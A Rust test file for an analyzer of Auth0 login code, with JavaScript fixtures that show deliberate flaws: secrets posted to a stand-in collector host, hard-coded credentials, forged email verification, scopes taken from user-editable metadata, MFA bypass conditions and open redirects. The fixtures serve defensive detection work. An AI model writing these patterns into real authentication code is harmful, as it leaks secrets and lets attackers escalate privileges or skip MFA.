//! Analyzer tests: sinks (Actions API, Management API, egress, scripts), hard-coded secrets and
//! every finding category, each with a clean look-alike that must stay clean.

use super::effects::{EffectKind, SecretKind, Source};
use super::tests_flow::{action, effect, rule, run};
use super::{CodeHint, CodeKind, CodeReport, analyze};

fn rules(r: &CodeReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

fn has(r: &CodeReport, rule: &str) -> bool {
    r.findings.iter().any(|f| f.rule == rule)
}

#[test]
fn actions_api_sinks() {
    let r = action(
        "api.user.setAppMetadata('a', 1);\napi.user.setUserMetadata('b', 2);\napi.accessToken.removeScope('c');\napi.authentication.challengeWith({ type: 'otp' });\napi.redirect.sendUserTo('https://x.example/p');\napi.access.deny('no');",
    );
    let kinds: Vec<&EffectKind> = r.effects.iter().map(|e| &e.kind).collect();
    assert!(kinds.contains(&&EffectKind::SetAppMetadata {
        key: Some("a".into())
    }));
    assert!(kinds.contains(&&EffectKind::SetUserMetadata {
        key: Some("b".into())
    }));
    assert!(kinds.contains(&&EffectKind::RemoveScope {
        scope: Some("c".into())
    }));
    assert!(kinds.contains(&&EffectKind::RequireMfa));
    // A constant URL has no part the caller controls, so nothing is left unchecked.
    assert!(kinds.contains(&&EffectKind::Redirect {
        checked: true,
        open_prefix: None
    }));
    assert!(kinds.contains(&&EffectKind::DenyAccess));
    assert!(r.findings.is_empty(), "{:?}", r.findings);
}

#[test]
fn management_client_from_secrets_and_linking() {
    let r = action(
        "const { ManagementClient } = require('auth0');\nconst m = new ManagementClient({ domain: event.secrets.DOMAIN, clientId: event.secrets.CID, clientSecret: event.secrets.SECRET });\nconst others = await m.usersByEmail.getByEmail({ email: event.user.email });\nawait m.users.link({ id: others[0].user_id }, { provider: 'auth0', user_id: event.user.user_id });",
    );
    let c = effect(&r, |k| {
        matches!(k, EffectKind::ManagementClientFromSecrets { .. })
    });
    assert_eq!(
        c.kind,
        EffectKind::ManagementClientFromSecrets {
            secret_names: vec!["CID".into(), "DOMAIN".into(), "SECRET".into()]
        }
    );
    assert!(r.effects.iter().any(|e| e.kind
        == EffectKind::ManagementApiCall {
            method: "users.link".into()
        }));
    assert!(r.effects.iter().any(|e| e.kind == EffectKind::LinkAccounts));
    assert!(has(&r, "code.unverified-email-trust"));
    assert!(!has(&r, "code.hardcoded-secret"));
    let safe = action(
        "if (!event.user.email_verified) return;\nconst m = new (require('auth0').ManagementClient)({ domain: 'd', clientId: 'c', clientSecret: event.secrets.S });\nawait m.users.link({ id: 'a' }, { provider: 'auth0', user_id: 'b' });",
    );
    assert!(
        !has(&safe, "code.unverified-email-trust"),
        "{:?}",
        safe.findings
    );
}

#[test]
fn management_over_http_and_token_endpoint() {
    let r = action(
        "const axios = require('axios');\nconst t = await axios.post('https://acme.auth0.com/oauth/token', { client_id: 'cid123', client_secret: 'Zx9kQ2mN7pL4rT8vW1yB6cD3fG5hJ0kM', audience: 'https://acme.auth0.com/api/v2/', grant_type: 'client_credentials' });\nawait axios.patch('https://acme.auth0.com/api/v2/users/' + event.user.user_id, { app_metadata: {} });",
    );
    let s = effect(&r, |k| matches!(k, EffectKind::HardcodedSecret { .. }));
    match &s.kind {
        EffectKind::HardcodedSecret {
            secret_kind,
            client_id,
            domain,
            masked,
            ..
        } => {
            assert_eq!(*secret_kind, SecretKind::ClientSecret);
            assert_eq!(client_id.as_deref(), Some("cid123"));
            assert_eq!(domain.as_deref(), Some("acme.auth0.com"));
            assert_eq!(masked, "Zx9k****(32 chars)");
        }
        _ => unreachable!(),
    }
    assert!(r.effects.iter().any(|e| e.kind
        == EffectKind::ManagementApiCall {
            method: "PATCH /api/v2/users/".into()
        }));
    let json = serde_json::to_string(&r).unwrap_or_default();
    assert!(!json.contains("Zx9kQ2mN7pL4rT8vW1yB6cD3fG5hJ0kM"));
    assert!(!has(&r, "code.secret-to-external-endpoint"));
}

/// (URL prefix, cleartext) of each outbound call.
fn egress_urls(r: &CodeReport) -> Vec<(Option<String>, bool)> {
    r.effects
        .iter()
        .filter_map(|e| match &e.kind {
            EffectKind::Egress { url, cleartext, .. } => Some((url.clone(), *cleartext)),
            _ => None,
        })
        .collect()
}

#[test]
fn egress_clients_urls_and_cleartext() {
    let r = action(
        "const got = require('got');\nconst request = require('request');\nconst https = require('https');\nawait fetch(`https://api.example.com/u/${event.user.user_id}`);\nawait got.post('http://plain.example.com/x', { json: { e: event.user.email } });\nrequest({ url: 'https://r.example.com/a', method: 'POST' }, () => {});\nhttps.request({ hostname: 'h.example.com', path: '/p' });",
    );
    let urls = egress_urls(&r);
    assert!(urls.contains(&(Some("https://api.example.com/u/".into()), false)));
    assert!(urls.contains(&(Some("http://plain.example.com/x".into()), true)));
    assert!(urls.contains(&(Some("https://r.example.com/a".into()), false)));
    assert!(urls.contains(&(Some("https://h.example.com/p".into()), false)));
    let got = effect(&r, |k| {
        matches!(
            k,
            EffectKind::Egress {
                cleartext: true,
                ..
            }
        )
    });
    assert!(got.value_sources.contains(&Source::Email));
    assert_eq!(
        rules(&r)
            .into_iter()
            .filter(|x| *x == "code.insecure-http-call")
            .count(),
        1
    );
}

/// `request.get({ uri })`, `request.post({ url, form })`, `axios.request({ url, method })`:
/// the URL, method and body come from the one options object.
#[test]
fn http_method_calls_with_an_options_object() {
    let r = rule(
        "request.get({ uri: 'http://legacy.example.com/p?e=' + user.email, json: true }, function (e, r, b) {});\nrequest.post({ url: 'https://acme.auth0.com/api/v2/users/' + user.user_id, json: { app_metadata: {} } });\nconst axios = require('axios');\naxios.request({ url: 'https://ax.example.com/r', method: 'put', data: { id: user.user_id } });\ncallback(null, user, context);",
    );
    let egress = egress_urls(&r);
    assert!(
        egress.contains(&(Some("http://legacy.example.com/p?e=".into()), true)),
        "{egress:?}"
    );
    assert!(egress.contains(&(Some("https://ax.example.com/r".into()), false)));
    assert!(r.effects.iter().any(|e| e.kind
        == EffectKind::ManagementApiCall {
            method: "POST /api/v2/users/".into()
        }));
    assert_eq!(
        rules(&r)
            .into_iter()
            .filter(|x| *x == "code.insecure-http-call")
            .count(),
        1
    );
}

#[test]
fn secret_to_external_endpoint() {
    let bad = action(
        "await fetch('https://collector.example.net/log', { method: 'POST', body: JSON.stringify(event.secrets) });",
    );
    assert!(has(&bad, "code.secret-to-external-endpoint"));
    let bad = action(
        "const KEY = 'sk_live_4eC39HqLyjWDarjtT1zdp7dcABCD';\nawait fetch('https://hooks.example.org/x?k=' + KEY);",
    );
    assert!(has(&bad, "code.secret-to-external-endpoint"));
    assert!(
        bad.effects
            .iter()
            .all(|e| !e.text.contains("4eC39HqLyjWDarjtT1zdp7dc"))
    );
    let bad = action(
        "await fetch('https://x.example.io/', { headers: { 'x-k': event.secrets.AUTH0_CLIENT_SECRET } });",
    );
    assert!(has(&bad, "code.secret-to-external-endpoint"));
    // A third-party key sent to its own API, and Auth0 credentials sent to Auth0, are fine.
    let ok = action(
        "await fetch('https://api.stripe.com/v1/customers', { headers: { Authorization: `Bearer ${event.secrets.STRIPE_KEY}` } });\nawait fetch(`https://${event.secrets.DOMAIN}/oauth/token`, { method: 'POST', body: JSON.stringify({ client_secret: event.secrets.CLIENT_SECRET }) });",
    );
    assert!(
        !has(&ok, "code.secret-to-external-endpoint"),
        "{:?}",
        ok.findings
    );
}

#[test]
fn hardcoded_secret_forms() {
    let r = action(
        "const stripe = require('stripe')('sk_live_4eC39HqLyjWDarjtT1zdp7dcABCD');\nconst h = { Authorization: 'Bearer abcdEFGH12345678' };\nconst SENDGRID_API_KEY = 'a9F3kQ2mZ7xL1pW8rT4vQ2';\nconst cfg = { password: 'hunter2hunter2' };",
    );
    let kinds: Vec<SecretKind> = r
        .effects
        .iter()
        .filter_map(|e| match &e.kind {
            EffectKind::HardcodedSecret { secret_kind, .. } => Some(*secret_kind),
            _ => None,
        })
        .collect();
    assert_eq!(
        kinds,
        vec![
            SecretKind::KnownFormat,
            SecretKind::AuthorizationHeader,
            SecretKind::CredentialName,
            SecretKind::CredentialName
        ]
    );
    assert_eq!(
        rules(&r)
            .iter()
            .filter(|x| **x == "code.hardcoded-secret")
            .count(),
        4
    );
    let json = serde_json::to_string(&r).unwrap_or_default();
    for raw in [
        "4eC39HqLyjWDarjtT1zdp7dc",
        "abcdEFGH12345678",
        "a9F3kQ2mZ7xL1pW8rT4vQ2",
        "hunter2hunter2",
    ] {
        assert!(!json.contains(raw), "{raw} leaked");
    }
}

#[test]
fn ordinary_literals_are_not_secrets() {
    let r = action(
        "const NAMESPACE = 'https://myapp.example.com/';\nconst msg = 'Please verify your email before logging in.';\nconst clientId = 'aB3dE5gH7jK9mN1pQ3sT5vX7';\nconst tokenUrl = 'https://acme.auth0.com/oauth/token';\nconst key = event.secrets.API_KEY;\napi.idToken.setCustomClaim(NAMESPACE + 'x', msg);",
    );
    assert!(!has(&r, "code.hardcoded-secret"), "{:?}", r.findings);
}

#[test]
fn profile_script_email_verified() {
    let src = "function (accessToken, ctx, cb) {\n  request.get({ url: 'https://idp.example.com/me', headers: { Authorization: 'Bearer ' + accessToken } }, function (err, resp, body) {\n    const p = JSON.parse(body);\n    cb(null, { user_id: p.id, email: p.email, email_verified: true });\n  });\n}";
    let r = run(src);
    assert_eq!(r.kind, CodeKind::ProfileScript);
    assert!(r.effects.iter().any(|e| e.kind
        == EffectKind::AssertsEmailVerified {
            constant_true: true
        }));
    let src = "function (accessToken, ctx, cb) {\n  request.get({ url: 'https://idp.example.com/me' }, function (err, resp, body) {\n    const p = JSON.parse(body);\n    cb(null, { user_id: p.id, email_verified: p.verified });\n  });\n}";
    let r = run(src);
    let e = effect(&r, |k| matches!(k, EffectKind::AssertsEmailVerified { .. }));
    assert_eq!(
        e.kind,
        EffectKind::AssertsEmailVerified {
            constant_true: false
        }
    );
    assert!(e.value_sources.contains(&Source::ProviderProfile));
    // Passing the provider's own claim through is not a forged constant.
    assert!(!has(&r, "code.unverified-email-trust"), "{:?}", r.findings);
    let r = run("function (accessToken, ctx, cb) { cb(null, { user_id: ctx.id }); }");
    assert!(
        !r.effects
            .iter()
            .any(|e| matches!(e.kind, EffectKind::AssertsEmailVerified { .. }))
    );
}

#[test]
fn db_script_returns_verified_profile() {
    let r = run(
        "function login(email, password, callback) {\n  callback(null, { user_id: '1', email: email, email_verified: true });\n}",
    );
    assert_eq!((r.kind, r.trigger.as_str()), (CodeKind::DbScript, "login"));
    assert!(r.effects.iter().any(|e| e.kind
        == EffectKind::AssertsEmailVerified {
            constant_true: true
        }));
    let forged: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule == "code.unverified-email-trust")
        .map(|f| (f.line, f.severity))
        .collect();
    assert_eq!(forged, [(2, crate::findings::Severity::Medium)]);
    let r = run(
        "function login(email, password, callback) {\n  db.get(email, function (err, row) {\n    callback(null, { user_id: row.id, email: email, email_verified: row.verified === 1 });\n  });\n}",
    );
    assert!(!has(&r, "code.unverified-email-trust"), "{:?}", r.findings);
}

#[test]
fn metadata_driven_privilege() {
    let bad = action("api.accessToken.addScope(event.user.user_metadata.scope);");
    assert!(
        bad.findings
            .iter()
            .any(|f| f.rule == "code.metadata-driven-privilege"
                && f.severity == crate::findings::Severity::Critical)
    );
    let bad = action(
        "if (event.user.user_metadata.role === 'admin') api.accessToken.addScope('admin:all');",
    );
    assert!(has(&bad, "code.metadata-driven-privilege"));
    let bad = action(
        "const { scope } = event.request.query;\napi.idToken.setCustomClaim('https://a/s', scope);",
    );
    assert!(has(&bad, "code.metadata-driven-privilege"));
    // app_metadata and roles are tenant-controlled.
    let ok = action(
        "if (event.authorization.roles.includes('admin')) api.accessToken.addScope('admin:all');\napi.accessToken.setCustomClaim('https://a/plan', event.user.app_metadata.plan);\napi.idToken.setCustomClaim('https://a/email', event.user.email);",
    );
    assert!(ok.findings.is_empty(), "{:?}", ok.findings);
}

#[test]
fn user_input_to_app_metadata() {
    let bad = action("api.user.setAppMetadata('role', event.request.body.role);");
    assert!(has(&bad, "code.user-input-to-app-metadata"));
    let ok = action(
        "api.user.setAppMetadata('last_ip', event.request.ip);\napi.user.setUserMetadata('pref', event.request.query.theme);",
    );
    assert!(
        !has(&ok, "code.user-input-to-app-metadata"),
        "{:?}",
        ok.findings
    );
}

#[test]
fn unverified_email_trust() {
    let bad =
        action("if (event.user.email === 'boss@acme.com') api.accessToken.addScope('admin');");
    assert!(has(&bad, "code.unverified-email-trust"));
    let bad = action(
        "if (event.user.email_verified && event.user.email.includes('@acme.com')) api.accessToken.addScope('staff');",
    );
    assert!(
        has(&bad, "code.unverified-email-trust"),
        "substring check must be flagged"
    );
    let ok = action(
        "if (event.user.email_verified && event.user.email.split('@')[1] === 'acme.com') api.accessToken.addScope('staff');\nif (event.user.email_verified && event.user.email.endsWith('@acme.com')) api.accessToken.addScope('x');",
    );
    assert!(
        !has(&ok, "code.unverified-email-trust"),
        "{:?}",
        ok.findings
    );
}

#[test]
fn mfa_bypass_condition() {
    let bad = action(
        "if (event.user.user_metadata.skip_mfa !== true) { api.multifactor.enable('any'); }",
    );
    assert!(has(&bad, "code.mfa-bypass-condition"));
    let bad = rule(
        "if (context.request.query.prompt !== 'none') { context.multifactor = { provider: 'any' }; }\ncallback(null, user, context);",
    );
    assert!(has(&bad, "code.mfa-bypass-condition"));
    let ok = action(
        "if (event.user.app_metadata.mfa_required || event.authorization.roles.includes('admin')) { api.multifactor.enable('any'); }",
    );
    assert!(!has(&ok, "code.mfa-bypass-condition"), "{:?}", ok.findings);
}

#[test]
fn open_redirect() {
    let bad = action("api.redirect.sendUserTo(event.request.query.return_to);");
    assert!(has(&bad, "code.open-redirect"));
    let ok = action(
        "api.redirect.sendUserTo('https://app.example.com/consent', { query: { s: event.user.user_id } });",
    );
    assert!(!has(&ok, "code.open-redirect"));
}

#[test]
fn unnamespaced_custom_claim() {
    let r = action(
        "api.accessToken.setCustomClaim('tier', 'gold');\napi.idToken.setCustomClaim('permissions', []);\napi.idToken.setCustomClaim('https://app.example.com/tier', 'gold');",
    );
    let lines: Vec<(u32, crate::findings::Severity)> = r
        .findings
        .iter()
        .filter(|f| f.rule == "code.unnamespaced-custom-claim")
        .map(|f| (f.line, f.severity))
        .collect();
    assert_eq!(
        lines,
        vec![
            (2, crate::findings::Severity::Low),
            (3, crate::findings::Severity::Medium)
        ]
    );
}

#[test]
fn unanalysable_code() {
    let r = analyze(
        "exports.onExecutePostLogin = async (event, api) => {\n  if (\n};",
        "bad.js",
        &CodeHint::default(),
    );
    assert!(r.parse_error.is_some());
    assert_eq!(rules(&r), vec!["code.unanalysable-code"]);
    assert!(r.findings.first().is_some_and(|f| f.line >= 2));
    let ok = action("api.access.deny('x');");
    assert!(ok.parse_error.is_none());
}
